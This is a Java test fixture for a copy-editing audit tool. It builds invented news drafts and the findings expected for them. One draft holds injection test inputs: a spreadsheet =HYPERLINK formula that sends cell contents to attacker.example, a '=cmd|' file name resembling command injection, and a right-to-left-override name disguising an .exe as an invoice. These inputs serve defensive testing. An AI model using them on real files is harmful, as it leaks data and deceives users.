@@ -1,0 +1,475 @@
+package org.copydesk.audit;
+
+import java.util.ArrayList;
+import java.util.List;
+import org.copydesk.check.RuleCard;
+import org.copydesk.check.RuleCatalogue;
+import org.copydesk.finding.Excerpt;
+import org.copydesk.finding.Figure;
+import org.copydesk.finding.Finding;
+import org.copydesk.finding.Fingerprint;
+import org.copydesk.finding.Level;
+import org.copydesk.finding.RuleId;
+import org.copydesk.finding.Support;
+import org.copydesk.score.Charge;
+import org.copydesk.score.PointsTable;
+import org.copydesk.score.Score;
+import org.copydesk.score.ScoreFormula;
+import org.copydesk.text.Article;
+import org.copydesk.text.Span;
+import org.copydesk.text.UnreadableReason;
+
+/** The run behind {@link SampleRun#typical()}; every text and finding in it is made up. */
+final class TypicalRun {
+
+  private static final RuleCatalogue RULES =
+      new RuleCatalogue(
+          List.of(
+              card(
+                  "names/misspelled-name",
+                  Level.ERROR,
+                  "Misspelled name",
+                  "A reader who knows the name stops trusting the story.",
+                  "Write the name as the house list or an atlas has it.",
+                  "The mayor of ⟦Rejkjavik⟧ opened the bridge.",
+                  "The mayor of Reykjavik opened the bridge.",
+                  true),
+              card(
+                  "names/unverified-name",
+                  Level.NOTE,
+                  "Name nobody could verify",
+                  "It is in no list of names and stands in one text only.",
+                  "Ask the writer how the name is spelled.",
+                  "A neighbour, ⟦Orla Quennick⟧, heard the bang.",
+                  "A neighbour, Maria Fischer, heard the bang.",
+                  false),
+              card(
+                  "spelling/misspelled-word",
+                  Level.ERROR,
+                  "Misspelled word",
+                  "It looks careless, and spell checkers of readers will mark it.",
+                  "Correct it.",
+                  "The goverment ⟦recieved⟧ the letter.",
+                  "The government received the letter.",
+                  false),
+              card(
+                  "spelling/run-together",
+                  Level.ERROR,
+                  "Words run together",
+                  "A blank was lost when the text was copied.",
+                  "Put the blank back.",
+                  "They gained ⟦groundbefore⟧ noon.",
+                  "They gained ground before noon.",
+                  false),
+              card(
+                  "statistics/unsupported",
+                  Level.ERROR,
+                  "Statistic without a source",
+                  "Readers need to know who counted. A figure nobody counted cannot be corrected"
+                      + " later.",
+                  "Name who counted it, or take the figure out.",
+                  "The new lanes cut accidents ⟦by 31%⟧.",
+                  "The new lanes cut accidents by 31%, police figures show.",
+                  false),
+              card(
+                  "statistics/vague-source",
+                  Level.WARNING,
+                  "Statistic with a vague source",
+                  "“Studies” and “experts” cannot be asked.",
+                  "Name the study or the expert.",
+                  "Studies say ⟦two thirds⟧ of drivers speed.",
+                  "A study by the road institute says two thirds of drivers speed.",
+                  false),
+              card(
+                  "fragments/comment-form",
+                  Level.ERROR,
+                  "Left-over comment form",
+                  "It belongs to the web page the text was copied from.",
+                  "Cut it.",
+                  "⟦Post a reply. Fields with a star must be filled in.⟧",
+                  "The council will post a reply on Monday.",
+                  false),
+              card(
+                  "fragments/template-heading",
+                  Level.WARNING,
+                  "Heading left from a template",
+                  "It tells the reader nothing about this story.",
+                  "Cut it or write a heading of its own.",
+                  "⟦Conclusion⟧",
+                  "The jury came to its conclusion at noon.",
+                  true),
+              card(
+                  "language/*",
+                  Level.WARNING,
+                  "Grammar or punctuation",
+                  "Small slips add up.",
+                  "Read the sentence aloud and mend it.",
+                  "The ministers ⟦was⟧ late.",
+                  "The ministers were late.",
+                  false),
+              card(
+                  "consistency/name-variant",
+                  Level.WARNING,
+                  "One name in two spellings",
+                  "One of them is wrong, or they are two people.",
+                  "Find out which is right and use it throughout.",
+                  "Anna Kowalska spoke first. Later ⟦Kowalski⟧ left.",
+                  "Anna Kowalska spoke first. Later Kowalska left.",
+                  false),
+              card(
+                  "style/stock-phrases",
+                  Level.NOTE,
+                  "Worn phrase",
+                  "It fills a line and says nothing.",
+                  "Say what happened, or leave it out.",
+                  "The talks come ⟦amid growing concerns⟧.",
+                  "The talks come a week after the strike.",
+                  false)));
+
+  private TypicalRun() {}
+
+  static SampleRun run() {
+    SampleRun.Builder run = SampleRun.builder().rules(RULES);
+    for (Draft draft : List.of(bridge(), harbour(), hostile(), festival(), council(), weather())) {
+      run.audited(draft.audit(), figure -> draft.where(figure.span()));
+    }
+    return run.notAudited(
+            "tuesday/minutes of the meeting.docx",
+            UnreadableReason.ENCRYPTED,
+            "",
+            48_213,
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
+        .notAudited(
+            "tuesday/invoice\u202Excod.exe",
+            UnreadableReason.NOT_A_DOCUMENT,
+            "It is a program.",
+            1_204_224,
+            "application/x-msdownload")
+        .notAudited("tuesday/scan.pdf", UnreadableReason.NO_TEXT, "", 8_730_112, "application/pdf")
+        .build();
+  }
+
+  private static Draft bridge() {
+    return new Draft(
+            "monday/bridge.txt",
+            """
+            New bridge halves the way to Rejkjavik
+
+            The new bridge was opened on Tuesday. Traffic on the old road fell by 31% within a week.
+            Studies suggest that 68% of drivers will take the bridge by spring. The road office counted \
+            12,400 cars on the first day, it said in its weekly report.
+
+            The mayor of Rejkjavik recieved the first driver with flowers. “It took us eleven years,” \
+            said Anna Kowalska, who planned the bridge. Kowalski left before the speeches.
+
+            Post a reply. Fields with a star must be filled in.
+            """)
+        .finding(
+            "names/misspelled-name",
+            Level.ERROR,
+            "Rejkjavik",
+            0.97,
+            "“Rejkjavik” is no place we know. Did you mean “Reykjavik”, the capital of Iceland?",
+            List.of("Reykjavik"),
+            List.of(
+                "In an atlas of 190,000 places there is only Reykjavik.",
+                "One letter is missing, one has changed place."))
+        .finding(
+            "statistics/unsupported",
+            Level.ERROR,
+            "by 31%",
+            0.92,
+            "Nobody is said to have counted this. Who measured the fall of 31%?",
+            List.of(),
+            List.of(
+                "The sentence names no office, study or person.",
+                "Neither do the sentences around it."))
+        .finding(
+            "statistics/vague-source",
+            Level.WARNING,
+            "68%",
+            0.8,
+            "“Studies suggest” names nobody who could be asked. Which studies?",
+            List.of(),
+            List.of("No study is named in the text."))
+        .finding(
+            "spelling/misspelled-word",
+            Level.ERROR,
+            "recieved",
+            0.99,
+            "“recieved” is misspelled.",
+            List.of("received", "relieved"),
+            List.of("It is in no dictionary.", "Two letters have changed places."))
+        .finding(
+            "consistency/name-variant",
+            Level.WARNING,
+            "Kowalski",
+            0.75,
+            "“Kowalski” here, “Kowalska” before. Is this one person?",
+            List.of("Kowalska"),
+            List.of("Anna Kowalska stands in the same paragraph."))
+        .finding(
+            "fragments/comment-form",
+            Level.ERROR,
+            "Post a reply. Fields with a star must be filled in.",
+            0.99,
+            "This is a form for comments, not the story.",
+            List.of(""),
+            List.of("It is the last paragraph, and it asks for fields to be filled in."))
+        .figure("31%", "percent", Support.UNSUPPORTED, "")
+        .figure("68%", "percent", Support.VAGUE, "Studies suggest")
+        .figure("12,400", "count", Support.ATTRIBUTED, "The road office … in its weekly report");
+  }
+
+  private static Draft harbour() {
+    return new Draft(
+            "monday/harbour.txt",
+            """
+            Harbour to close for two winters
+
+            The harbour will close in November, the port authority said. They gained groundbefore the \
+            first storm, but 25% of the quay is gone and 5% of the sheds leak. About 340 boats must move.
+
+            Conclusion
+
+            The authority have promised a ferry.
+            """)
+        .finding(
+            "spelling/run-together",
+            Level.ERROR,
+            "groundbefore",
+            0.98,
+            "Two words have run together.",
+            List.of("ground before"),
+            List.of("“ground” and “before” are words, “groundbefore” is none."))
+        .finding(
+            "statistics/unsupported",
+            Level.WARNING,
+            "5%",
+            0.7,
+            "It is not clear who counted this. Is it from the port authority too?",
+            List.of(),
+            List.of("The authority is named in the sentence before."))
+        .finding(
+            "fragments/template-heading",
+            Level.WARNING,
+            "Conclusion",
+            0.9,
+            "“Conclusion” is a heading of a template.",
+            List.of(),
+            List.of("It stands alone in a line."))
+        .finding(
+            "language/subject-verb-agreement",
+            Level.WARNING,
+            "have",
+            0.6,
+            "After “authority” a singular verb is usual.",
+            List.of("has"),
+            List.of())
+        .figure("25%", "percent", Support.ATTRIBUTED, "the port authority said")
+        .figure("5%", "percent", Support.UNSUPPORTED, "")
+        .figure("340 boats", "count", Support.UNSUPPORTED, "");
+  }
+
+  /** What a sender could try: formulas, escapes, control characters, turned text, huge words. */
+  private static Draft hostile() {
+    String huge = "verylong".repeat(5_000);
+    return new Draft(
+            "monday/=cmd|' _x0041_.txt",
+            "=HYPERLINK(\"https://attacker.example/?q=\"&A1,\"Click here\")\n\n"
+                + "The _x0041_ and\u0000the\u0007bell, -2+3 and @SUM(A1) <b>&amp;</b> stay text. The word"
+                + " שלום is Hebrew, \u202Edesrever\u202C is turned, \uD800 is half a letter.\n\n"
+                + huge
+                + " ends here.\n")
+        .finding(
+            "spelling/misspelled-word",
+            Level.WARNING,
+            "-2+3",
+            0.5,
+            "=1+1 is what this message begins with.",
+            List.of("=1+1", "+1", "@x"),
+            List.of("\u202Eevidence turned round\u202C", "_x0042_"))
+        .finding(
+            "spelling/misspelled-word",
+            Level.NOTE,
+            "שלום",
+            0.4,
+            "“שלום” is not English.",
+            List.of(),
+            List.of())
+        .finding(
+            "spelling/misspelled-word",
+            Level.ERROR,
+            huge,
+            0.9,
+            "This word has " + huge.length() + " letters: " + huge,
+            List.of(huge),
+            List.of())
+        .figure("-2+3", "count", Support.VAGUE, "=the bell");
+  }
+
+  private static Draft festival() {
+    return new Draft(
+            "tuesday/festival.txt",
+            """
+            Festival ends with a record
+
+            The festival drew 41,000 visitors, its office said on Monday, 3,000 more than last year.
+
+            A neighbour, Orla Quennick, heard the music until midnight. The talks about next year come \
+            amid growing concerns about noise.
+            """)
+        .finding(
+            "names/unverified-name",
+            Level.NOTE,
+            "Orla Quennick",
+            0.5,
+            "We could not verify this name. How does she spell it?",
+            List.of(),
+            List.of("It stands in this text only."))
+        .finding(
+            "style/stock-phrases",
+            Level.NOTE,
+            "amid growing concerns",
+            0.7,
+            "A worn phrase. Whose concerns, and since when?",
+            List.of(),
+            List.of())
+        .figure("41,000 visitors", "count", Support.ATTRIBUTED, "its office said on Monday")
+        .figure("3,000", "count", Support.ATTRIBUTED, "its office said on Monday");
+  }
+
+  private static Draft council() {
+    return new Draft(
+            "tuesday/council.txt",
+            """
+            Council votes for the tram
+
+            The council voted for the tram on Monday. Of 52 members, 31 were in favour, the minutes show.
+
+            The works will definately begin in May and, one member said, last “three years at the most”.
+            """)
+        .finding(
+            "spelling/misspelled-word",
+            Level.ERROR,
+            "definately",
+            0.99,
+            "“definately” is misspelled.",
+            List.of("definitely"),
+            List.of("It is in no dictionary."))
+        .figure("52 members", "count", Support.ATTRIBUTED, "the minutes show")
+        .figure("31", "count", Support.ATTRIBUTED, "the minutes show");
+  }
+
+  private static Draft weather() {
+    return new Draft(
+        "tuesday/weather.txt",
+        """
+        A quiet week on the coast
+
+        The wind will stay below gale force until Sunday, the weather office expects, and the rain \
+        will keep to the hills.
+        """);
+  }
+
+  private static RuleCard card(
+      String id,
+      Level level,
+      String summary,
+      String why,
+      String fix,
+      String flags,
+      String accepts,
+      boolean blocking) {
+    return new RuleCard(id, level, summary, why, fix, flags, accepts, blocking);
+  }
+
+  /** One text with the findings and figures that a test wants in it. */
+  private static final class Draft {
+    private final Article article;
+    private final List<LocatedFinding> findings = new ArrayList<>();
+    private final List<Figure> figures = new ArrayList<>();
+
+    Draft(String name, String text) {
+      this.article = Article.ofPlainText(name, text, Draft::sentences);
+    }
+
+    private static List<Span> sentences(String block) {
+      List<Span> spans = new ArrayList<>();
+      int begin = 0;
+      for (int end = block.indexOf(". "); end >= 0; end = block.indexOf(". ", begin)) {
+        spans.add(new Span(begin, end + 1));
+        begin = end + 2;
+      }
+      spans.add(new Span(begin, block.length()).trim(block));
+      return spans.stream().filter(s -> !s.isEmpty()).toList();
+    }
+
+    Draft finding(
+        String rule,
+        Level level,
+        String words,
+        double confidence,
+        String message,
+        List<String> suggestions,
+        List<String> evidence) {
+      Span span = spanOf(words);
+      Finding finding =
+          new Finding(
+              new RuleId(rule), level, span, words, message, suggestions, evidence, confidence);
+      findings.add(
+          new LocatedFinding(
+              finding,
+              Fingerprint.of(finding.rule(), article.name(), sentence(span), words, 0),
+              article.placeOf(span.begin()),
+              where(span),
+              Excerpt.of(article, span)));
+      return this;
+    }
+
+    Draft figure(String words, String kind, Support support, String source) {
+      Span span = spanOf(words);
+      figures.add(new Figure(span, words, kind, sentence(span), support, source));
+      return this;
+    }
+
+    String where(Span span) {
+      return article.blockAt(span.begin()).orElseThrow().locator().inWords();
+    }
+
+    private String sentence(Span span) {
+      return article.sentenceAt(span.begin()).map(article::textOf).orElse("");
+    }
+
+    /** The words where they stand alone: “5%” is not the end of “25%”. */
+    private Span spanOf(String words) {
+      int at = article.text().indexOf(words);
+      while (at > 0 && Character.isLetterOrDigit(article.text().charAt(at - 1))) {
+        at = article.text().indexOf(words, at + 1);
+      }
+      return new Span(at, at + words.length());
+    }
+
+    Audit audit() {
+      ScoreFormula formula =
+          new ScoreFormula(
+              PointsTable.standard(),
+              rule -> RULES.find(rule).map(RuleCard::blocking).orElse(false));
+      List<Charge> charges =
+          findings.stream().map(f -> new Charge(f.finding().rule(), f.finding().level())).toList();
+      Score score = formula.score(charges, article.words());
+      return new Audit(
+          article.name(),
+          article
+              .headline()
+              .map(article::textOf)
+              .orElseGet(() -> article.text().lines().findFirst().orElse("")),
+          article.words(),
+          findings,
+          figures,
+          List.of(),
+          score,
+          formula.verdict(score, charges));
+    }
+  }
+}
